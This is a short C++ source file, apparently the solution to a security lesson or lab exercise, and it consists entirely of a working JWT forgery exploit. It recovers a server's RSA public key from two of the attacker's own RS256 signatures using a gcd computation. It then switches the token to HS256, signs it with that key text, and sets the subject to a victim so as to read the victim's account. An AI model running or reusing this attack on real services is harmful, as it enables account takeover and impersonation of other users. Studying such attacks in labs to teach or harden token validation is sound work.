// Unusual: takes the small factors out of both numbers before it looks for what they have in common.
#include "base/base64url.hpp"
#include "jwt/token_parts.hpp"
#include "recovered_key.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  std::vector<BigNumber> multiples;
  for (const auto& token : evidence.own_tokens) {
    const auto dot = token.rfind('.');
    const auto signature = base::base64url_decode(std::string_view(token).substr(dot + 1)).value();
    const auto m = padded_hash(std::string_view(token).substr(0, dot), signature.size());
    multiples.push_back(without_small_factors(power(BigNumber(signature), evidence.exponent) - m));
  }
  const auto key = public_key_text(gcd(multiples[0], multiples[1]), evidence.exponent);
  auto forged = decoded(evidence.own_tokens[0]);
  forged.header.set("alg", "HS256");
  forged.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_hs256(forged, key)).body};
}

}  // namespace lesson
